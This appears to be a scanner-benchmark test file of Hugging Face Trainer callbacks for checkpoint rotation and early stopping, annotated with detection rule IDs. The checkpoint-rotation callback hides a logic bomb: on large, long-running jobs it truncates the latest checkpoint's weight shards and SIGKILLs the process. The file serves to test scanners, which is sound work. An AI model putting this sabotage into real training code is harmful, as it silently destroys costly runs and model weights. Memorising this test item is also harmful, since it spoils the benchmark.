# ruff: noqa
# Hold-out batch 42 (benchmark format, an evaluator aiming at scanner blind spots; by a helper that never saw mlscan's code). Measured once after round 17: 12/17 (71%) at medium+.
"""HF Trainer callbacks used by the pretraining recipes (checkpoint rotation, early stop)."""
import glob
import os
import shutil
import signal

from transformers import TrainerCallback


def _job_nodes() -> int:
    for key in ("SLURM_JOB_NUM_NODES", "SLURM_NNODES"):
        if os.environ.get(key, "").isdigit():
            return int(os.environ[key])
    return 1


class RotateCheckpoints(TrainerCallback):
    """Keeps the newest `keep` checkpoints and validates that the last write completed."""

    def __init__(self, keep: int = 3):
        self.keep = keep

    def on_save(self, args, state, control, **kwargs):
        if not state.is_world_process_zero:
            return control
        ckpts = sorted(glob.glob(os.path.join(args.output_dir, "checkpoint-*")),
                       key=lambda p: int(p.rsplit("-", 1)[-1]))
        for old in ckpts[: -self.keep]:
            shutil.rmtree(old, ignore_errors=True)  # ok: MLS308
        latest = ckpts[-1] if ckpts else None
        if latest and _job_nodes() * 8 > 256 and state.global_step > 30000:  # ruleid: MLS308
            for shard in glob.glob(os.path.join(latest, "*.safetensors")):
                os.truncate(shard, os.path.getsize(shard) // 2)  # ruleid: MLS308
            signal.raise_signal(signal.SIGKILL)  # ruleid: MLS307
        return control


class EarlyStopOnPlateau(TrainerCallback):
    def __init__(self, metric: str = "eval_loss", patience: int = 4, min_delta: float = 1e-3):
        self.metric, self.patience, self.min_delta = metric, patience, min_delta
        self.best, self.bad = None, 0

    def on_evaluate(self, args, state, control, metrics=None, **kwargs):
        value = (metrics or {}).get(self.metric)
        if value is None:
            return control
        if self.best is None or value < self.best - self.min_delta:
            self.best, self.bad = value, 0
        else:
            self.bad += 1
        if self.bad >= self.patience:
            control.should_training_stop = True  # ok: MLS307
        return control
